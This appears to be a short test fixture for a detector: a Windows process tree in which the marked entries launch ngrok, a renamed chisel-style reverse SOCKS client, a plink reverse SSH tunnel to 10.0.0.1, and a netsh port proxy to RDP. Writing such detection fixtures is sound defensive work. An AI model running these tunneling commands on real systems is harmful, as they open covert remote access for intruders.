os windows
101 1 ana - C:\Windows\explorer.exe | C:\Windows\explorer.exe
102 101 ana - C:\Windows\System32\cmd.exe | C:\Windows\System32\cmd.exe
+ 103 102 ana - C:\data\ngrok.exe | ngrok tcp 3389
+ 104 102 ana - C:\data\c.exe | c.exe client 10.0.0.1:8080 R:socks
+ 105 102 ana - C:\data\plink.exe | plink.exe -R 3389:127.0.0.1:3389 ana@10.0.0.1
+ 106 102 ana - C:\Windows\System32\netsh.exe | netsh interface portproxy add v4tov4 listenport=8001 connectport=3389
